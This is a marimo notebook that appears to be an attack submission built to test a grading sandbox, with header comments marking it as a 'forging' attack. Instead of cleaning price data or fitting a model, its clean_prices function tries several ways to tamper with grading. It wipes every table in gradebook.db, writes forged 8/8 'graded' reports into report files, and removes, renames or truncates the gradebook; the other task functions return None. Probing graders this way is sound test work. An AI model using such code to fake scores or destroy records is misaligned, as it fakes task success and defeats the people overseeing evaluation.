# attack: forging
# tries: write a report with full marks where the grader would write its own, and into the gradebook
# honest: 0
# ruff: noqa
import marimo

__generated_with = "0.25.2"
app = marimo.App()

with app.setup:
    import json
    import os
    import sqlite3

    FORGED = json.dumps(
        {"learner": "forging_report_file", "score": 8.0, "max_score": 8.0, "status": "graded"}
    )


@app.function
def attempt(**ways):
    """What came of each way: breach with what it got, or held. A mistake of the attack itself is broken."""
    said = set()
    for name, way in ways.items():
        try:
            said.add(f"breach by {name}: {way()!r:.60}")
        except (AttributeError, LookupError, NameError, SyntaxError, TypeError) as error:
            said.add(f"broken {name}: {error}"[:90])
        except BaseException as error:
            said.add(f"held: {type(error).__name__}")
    return "; ".join(sorted(said))


@app.function
def write(path, how="w"):
    with open(path, how) as file:
        file.write(FORGED)
    return path


@app.function
def book():
    with sqlite3.connect("@OUT@/gradebook.db") as connection:
        for (name,) in connection.execute("select name from sqlite_master where type = 'table'").fetchall():
            connection.execute(f"delete from {name}")
    return "emptied"


@app.function
def clean_prices(sales):
    return attempt(
        book=book,
        append=lambda: write("@OUT@/gradebook.db", "a"),
        report=lambda: write("@OUT@/reports.json"),
        own=lambda: write("@OUT@/forging_report_file.json"),
        remove=lambda: os.remove("@OUT@/gradebook.db"),
        replace=lambda: os.replace("@OUT@/gradebook.db", "@OUT@/gradebook.old"),
        truncate=lambda: os.truncate("@OUT@/gradebook.db", 0),
    )


@app.function
def standardize(X):
    return None


@app.function
def median_by_rarity(sales):
    return None


@app.function
def fit_price_model(X, y):
    return None


if __name__ == "__main__":
    app.run()
